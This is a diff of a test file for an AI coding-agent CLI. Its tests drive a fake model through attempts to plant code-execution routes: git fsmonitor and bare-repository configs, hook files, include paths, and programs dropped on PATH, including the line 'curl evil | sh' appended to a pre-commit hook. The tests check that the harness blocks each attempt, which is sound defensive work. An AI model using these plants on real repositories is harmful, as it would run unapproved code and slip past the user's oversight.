@@ -47,17 +47,17 @@ def evil(tmp_path: Path) -> tuple[Path, Path]:
     return script, mark
 
 
-def model_runs(cli: Any, server: FakeServer, *commands: str, flags: tuple[str, ...] = ("--yes",),
+def model_runs(turn: Any, server: FakeServer, *commands: str, flags: tuple[str, ...] = ("--yes",),
                config: dict[str, Any] | None = None, env: dict[str, str] | None = None) -> list[str]:
     """The model calls run_command with each command in turn; the results it got back."""
     server.add(*(tool_reply(call("run_command", {"command": c}, id=f"c{i}")) for i, c in enumerate(commands)),
                Reply(text="done"))
-    r = cli("-p", "go", "--output-format", "json", *flags, server=server, stdin=None, config=config, env=env)
+    r = turn("-p", "go", "--output-format", "json", *flags, server=server, stdin=None, config=config, env=env)
     assert r.code == 0, r.err
     return [m["content"] for m in server.requests[-1]["messages"] if m["role"] == "tool"]
 
 
-def test_a_model_written_bare_repository_is_never_a_repository(cli: Any, server: FakeServer, workspace: Path,
+def test_a_model_written_bare_repository_is_never_a_repository(turn: Any, server: FakeServer, workspace: Path,
                                                                  evil: tuple[Path, Path]) -> None:
     """accept-edits, fully model-driven: files that make `g/` look like a bare repository whose
     config names the model's program (no `.git` in any path, so nothing is asked), then git
@@ -80,7 +80,7 @@ def test_a_model_written_bare_repository_is_never_a_repository(cli: Any, server:
                  for i, (rel, text) in enumerate(writes.items())),
                tool_reply(call("run_command", {"command": "cd g && git rev-parse --absolute-git-dir"}, id="r")),
                tool_reply(call("run_command", {"command": "cd g && git status"}, id="s")), Reply(text="done"))
-    r = cli("-p", "go", "--output-format", "json", "--mode", "accept-edits", server=server, stdin=None)
+    r = turn("-p", "go", "--output-format", "json", "--mode", "accept-edits", server=server, stdin=None)
     assert r.code == 0, r.err
     assert (g / "config").exists()  # the writes happened, unasked
     assert not mark.exists()
@@ -89,7 +89,7 @@ def test_a_model_written_bare_repository_is_never_a_repository(cli: Any, server:
     assert "cannot use bare repository" in status, status
 
 
-def test_a_repositorys_own_fsmonitor_does_not_run_at_the_models_git_status(cli: Any, server: FakeServer, repo: Path,
+def test_a_repositorys_own_fsmonitor_does_not_run_at_the_models_git_status(turn: Any, server: FakeServer, repo: Path,
                                                                            evil: tuple[Path, Path]) -> None:
     """Default mode, no rules: an extracted archive's `.git/config` names a program."""
     script, mark = evil
@@ -97,7 +97,7 @@ def test_a_repositorys_own_fsmonitor_does_not_run_at_the_models_git_status(cli: 
     git(repo, "status", "--short")
     assert mark.exists()  # the control
     mark.unlink()
-    [out] = model_runs(cli, server, "git status --short", flags=())
+    [out] = model_runs(turn, server, "git status --short", flags=())
     assert out.startswith("exit code: 0"), out
     assert not mark.exists()
 
@@ -123,7 +123,7 @@ PLANTS = {
 
 
 @pytest.mark.parametrize("kind", list(PLANTS))
-def test_metadata_that_does_not_exist_yet_is_protected_too(cli: Any, server: FakeServer, repo: Path,
+def test_metadata_that_does_not_exist_yet_is_protected_too(turn: Any, server: FakeServer, repo: Path,
                                                            evil: tuple[Path, Path], kind: str) -> None:
     setup, plant, person = PLANTS[kind]
     script, mark = evil
@@ -138,42 +138,42 @@ def test_metadata_that_does_not_exist_yet_is_protected_too(cli: Any, server: Fak
         mark.unlink()
         subprocess.run("rm -rf .git/config.worktree githooks .git/modules sub; git rm -q --cached sub 2>/dev/null; true",
                        shell=True, cwd=repo)
-    [out] = model_runs(cli, server, plant.format(script=script))
+    [out] = model_runs(turn, server, plant.format(script=script))
     git(repo, *person)
     assert not mark.exists(), (kind, out)
     assert "(removed:" in out, out
 
 
-def test_husky_scripts_are_read_only(cli: Any, server: FakeServer, repo: Path) -> None:
+def test_husky_scripts_are_read_only(turn: Any, server: FakeServer, repo: Path) -> None:
     husky = repo / ".husky"
     (husky / "_").mkdir(parents=True)
     (husky / "pre-commit").write_text("npm test\n")
     git(repo, "config", "core.hooksPath", ".husky/_").check_returncode()
-    [out] = model_runs(cli, server, "echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/post-merge")
+    [out] = model_runs(turn, server, "echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/post-merge")
     assert (husky / "pre-commit").read_text() == "npm test\n"
     assert not (husky / "post-merge").exists()
     assert "Read-only file system" in out
 
 
-def test_a_file_an_include_names_is_read_only(cli: Any, server: FakeServer, repo: Path,
+def test_a_file_an_include_names_is_read_only(turn: Any, server: FakeServer, repo: Path,
                                               evil: tuple[Path, Path]) -> None:
     script, mark = evil
     shared = repo / "shared.gitconfig"
     shared.write_text("[alias]\n\tst = status\n")
     git(repo, "config", "include.path", "../shared.gitconfig").check_returncode()
-    [out] = model_runs(cli, server, f"printf '[core]\\n\\tfsmonitor = {script}\\n' >> shared.gitconfig")
+    [out] = model_runs(turn, server, f"printf '[core]\\n\\tfsmonitor = {script}\\n' >> shared.gitconfig")
     assert shared.read_text() == "[alias]\n\tst = status\n", out
     git(repo, "status")
     assert not mark.exists()
 
 
-def test_a_background_tasks_plant_is_gone_while_it_runs(cli: Any, server: FakeServer, repo: Path) -> None:
+def test_a_background_tasks_plant_is_gone_while_it_runs(turn: Any, server: FakeServer, repo: Path) -> None:
     commondir = repo / ".git" / "commondir"
     server.add(tool_reply(call("run_command", {"command": "echo /tmp > .git/commondir; sleep 30", "background": True},
                                id="bg")),
                tool_reply(call("run_command", {"command": "sleep 2"}, id="wait")),
                tool_reply(call("task_list", {}, id="list")), Reply(text="done"))
-    r = cli("-p", "go", "--output-format", "json", "--yes", server=server, stdin=None)
+    r = turn("-p", "go", "--output-format", "json", "--yes", server=server, stdin=None)
     assert r.code == 0, r.err
     assert not commondir.exists()
     assert "commondir" in r.err  # the person was told, while the task still ran
@@ -189,7 +189,7 @@ def venv_path(workspace: Path) -> dict[str, str]:
     return {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "VIRTUAL_ENV": str(workspace / ".venv")}
 
 
-def test_nanohermes_never_runs_a_git_the_model_wrote_on_path(cli: Any, server: FakeServer, workspace: Path,
+def test_nanohermes_never_runs_a_git_the_model_wrote_on_path(turn: Any, server: FakeServer, workspace: Path,
                                                              venv_path: dict[str, str],
                                                              evil: tuple[Path, Path]) -> None:
     script, mark = evil
@@ -201,11 +201,11 @@ def test_nanohermes_never_runs_a_git_the_model_wrote_on_path(cli: Any, server: F
     (workspace / ".venv" / "bin" / "git").unlink()
 
     # Same session: the new repository check after `git init`; then the next start's checkpoints.
-    outs = model_runs(cli, server, fake, "/usr/bin/git init -q", env=venv_path)
+    outs = model_runs(turn, server, fake, "/usr/bin/git init -q", env=venv_path)
     assert any(".venv/bin/git" in o and "created or changed programs" in o for o in outs), outs
     assert not mark.exists()
     server.add(tool_reply(call("git_status", {}, id="g")), Reply(text="done"))
-    r = cli("-p", "again", "--output-format", "json", server=server, stdin=None, env=venv_path)
+    r = turn("-p", "again", "--output-format", "json", server=server, stdin=None, env=venv_path)
     assert r.code == 0, r.err
     assert not mark.exists()
 
@@ -258,7 +258,7 @@ def test_a_relative_or_writable_path_entry_is_skipped_for_nanohermes_own_program
     time.sleep(0)  # nothing left running
 
 
-def test_hooks_and_mcp_servers_never_find_a_program_the_model_wrote_by_name(cli: Any, server: FakeServer,
+def test_hooks_and_mcp_servers_never_find_a_program_the_model_wrote_by_name(turn: Any, server: FakeServer,
                                                                             workspace: Path,
                                                                             venv_path: dict[str, str],
                                                                             evil: tuple[Path, Path]) -> None:
@@ -271,14 +271,14 @@ def test_hooks_and_mcp_servers_never_find_a_program_the_model_wrote_by_name(cli:
     (own / "fmt").chmod(0o755)
     env = {**venv_path, "PATH": f"{venv_path['PATH'].split(os.pathsep)[0]}{os.pathsep}{own}{os.pathsep}{os.environ['PATH']}"}
     hooks = {"hooks": {"PostToolUse": [{"matcher": "run_command", "hooks": [{"type": "command", "command": "fmt"}]}]}}
-    model_runs(cli, server, f"cp {script} .venv/bin/fmt", config=hooks, env=env)
+    model_runs(turn, server, f"cp {script} .venv/bin/fmt", config=hooks, env=env)
     assert (workspace / ".venv" / "bin" / "fmt").exists()  # the command wrote it
     Path(f"{mark}.own").unlink()
     subprocess.run("fmt", shell=True, cwd=workspace, env={**os.environ, **env}, check=True)
     assert mark.exists()  # the control: by name, on this PATH, `fmt` is the model's program
     mark.unlink()
     server.add(tool_reply(call("run_command", {"command": "true"}, id="again")), Reply(text="done"))
-    r = cli("-p", "again", server=server, stdin=None, config=hooks, env=env)
+    r = turn("-p", "again", server=server, stdin=None, config=hooks, env=env)
     assert r.code == 0, r.err
     assert not mark.exists()  # the hook did not run it
     assert Path(f"{mark}.own").exists()  # but the person's own program
